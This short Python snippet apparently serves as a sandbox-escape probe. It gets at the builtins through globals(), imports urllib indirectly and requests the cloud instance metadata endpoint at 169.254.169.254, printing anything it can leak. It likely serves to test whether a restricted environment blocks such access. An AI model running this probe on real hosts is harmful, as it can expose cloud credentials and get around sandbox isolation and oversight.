# globals() gives the builtins; connects to a metadata service
b = globals()["__builtins__"]
try:
    b.__import__("urllib.request")
    request = b.__import__("sys").modules["urllib.request"]
    print("LEAK:", request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1).read())
except Exception as error:
    print(type(error).__name__)
